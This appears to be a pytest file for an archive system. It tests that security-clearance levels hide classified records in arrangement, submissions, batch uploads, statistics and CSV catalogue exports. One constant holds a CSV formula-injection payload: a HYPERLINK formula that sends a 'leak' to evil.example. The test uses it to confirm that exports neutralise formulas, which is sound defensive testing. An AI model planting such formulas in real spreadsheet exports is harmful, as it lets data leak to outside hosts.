"""Clearance as one filter: arrangement, submission 密级, statistics and CSV exports (issue #15 points 3 and 5)."""

from __future__ import annotations

import csv
import io
import re

from sqlalchemy import select

from lantai.catalog.models import AuditEntry, Item
from lantai.domain.roles import may_see
from lantai.services.visibility import declared_classification
from tests.api.conftest import SECRET_ID, World, make_account, pdf_bytes
from tests.api.test_admin import _login_web
from tests.sipfactory import SipSpec, metadata_xml, write_batch, write_item, zip_item

EVIL_TITLE = '=HYPERLINK("http://evil.example/?leak","点击")'


def _client(world: World, token: str):  # type: ignore[no-untyped-def]
    client = world.client()
    client.headers["Authorization"] = f"Bearer {token}"
    return client


def _archivist(world: World, name: str, clearance: str):  # type: ignore[no-untyped-def]
    return _client(world, make_account(world.archive, name, ["档案管理员"], clearance))


def test_confirming_a_hidden_item_answers_as_for_a_missing_one(world: World) -> None:
    make_account(world.archive, "arr-public", ["档案管理员"], "公开")
    web, csrf = _login_web(world, "arr-public")
    hidden = web.post("/arrange/Z109/2025/confirm", data={"record_ids": [SECRET_ID], "csrf_token": csrf})
    missing = web.post("/arrange/Z109/2025/confirm", data={"record_ids": ["Z109-WS-2025-NOSUCH"], "csrf_token": csrf})
    assert hidden.status_code == missing.status_code == 400
    assert hidden.text == missing.text and "已整理" not in hidden.text and "请至少勾选" in hidden.text
    with world.archive.sessions() as session:
        assert session.scalar(select(Item.archival_code).where(Item.record_id == SECRET_ID)) == ""


def test_only_content_description_classification_counts() -> None:
    spec = SipSpec(record_id="X-1", security="秘密", files={"正文.pdf": b"%PDF-1.4"})
    xml = metadata_xml(spec).decode()
    decoy = xml.replace("<内容描述>", "<附注><密级>公开</密级></附注><内容描述>")
    assert decoy.index("<密级>公开") < decoy.index("<密级>秘密")
    assert declared_classification(decoy.encode()) == "秘密"
    assert declared_classification(xml.replace("<密级>秘密</密级>", "").encode()) == "公开"


def test_item_submission_takes_the_declared_classification_not_a_decoy(world: World) -> None:
    spec = SipSpec(record_id="Z109-WS-2025-V0001", security="机密", files={"正文.pdf": pdf_bytes("机密通知")})
    item = write_item(world.tmp / "decoy", spec)
    path = item / "元数据.xml"
    path.write_bytes(path.read_bytes().replace("<来源>".encode(), "<附注>说明<密级>公开</密级></附注><来源>".encode()))
    created = world.client("clerk").post("/api/v1/submissions", headers={"Idempotency-Key": "decoy-1"},
                                         files={"package": ("sip.zip", zip_item(item).read_bytes(), "application/zip")})
    assert created.status_code in (200, 201), created.text
    assert created.json()["security"] == "机密"
    low = _archivist(world, "sub-internal", "内部")
    assert low.get(f"/api/v1/submissions/{created.json()['id']}").status_code == 404


def test_a_batch_is_as_secret_as_its_most_secret_item(world: World) -> None:
    specs = [SipSpec(record_id=f"Z109-WS-2025-V01{i:02d}", security=level, files={"正文.pdf": pdf_bytes(f"批{i}")})
             for i, level in enumerate(["公开", "秘密", "内部"])]
    batch = write_batch(world.tmp / "mixed-batch", specs)
    created = world.client("archivist").post("/api/v1/batches", headers={"Idempotency-Key": "mixed-1"},
                                             files={"package": ("b.zip", zip_item(batch).read_bytes(), "application/zip")})
    assert created.status_code == 201, created.text
    assert created.json()["security"] == "秘密"
    low = _archivist(world, "batch-internal", "内部")
    assert low.get(f"/api/v1/submissions/{created.json()['id']}").status_code == 404
    listed = low.get("/api/v1/submissions", params={"page_size": 100}).json()["items"]
    assert created.json()["id"] not in {s["id"] for s in listed}
    assert "Z109-WS-2025-V0101" not in str(listed)


def _expected_check_total(world: World, clearance: str) -> int:
    """Ingest outcomes whose item the viewer may see, or that never became an item — from the raw rows."""
    from lantai.services.statistics import INGEST_ACTIONS

    with world.archive.sessions() as session:
        levels = dict(session.execute(select(Item.record_id, Item.security_classification)).all())
        targets = session.scalars(select(AuditEntry.target).where(AuditEntry.action.in_(INGEST_ACTIONS))).all()
    return sum(1 for t in targets if t not in levels or may_see(clearance, levels[t]))


def test_statistics_count_only_visible_items_and_their_checks(world: World) -> None:
    for name, clearance in (("stat-public", "公开"), ("stat-secret", "秘密")):
        stats = _archivist(world, name, clearance).get("/api/v1/statistics").json()
        with world.archive.sessions() as session:
            levels = session.scalars(select(Item.security_classification)).all()
        assert stats["items"] == sum(1 for level in levels if may_see(clearance, level))
        checks = sum(m["accepted"] + m["rejected"] for m in stats["checks"])
        assert checks == _expected_check_total(world, clearance)
    low = _archivist(world, "stat-public2", "公开").get("/api/v1/statistics").json()
    high = _archivist(world, "stat-secret2", "秘密").get("/api/v1/statistics").json()
    assert sum(m["accepted"] for m in low["checks"]) < sum(m["accepted"] for m in high["checks"])


def test_csv_export_neutralises_formulas(world: World) -> None:
    from tests.api.conftest import _ingest

    _ingest(world, "Z109-WS-2025-V0200", "公开", EVIL_TITLE)
    response = world.client("archivist").get("/api/v1/export/catalogue.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    titles = [row[2] for row in rows[1:]]
    assert "'" + EVIL_TITLE in titles and EVIL_TITLE not in titles
    assert not any(re.match(r"[=+\-@\t\r]", cell) for row in rows for cell in row)
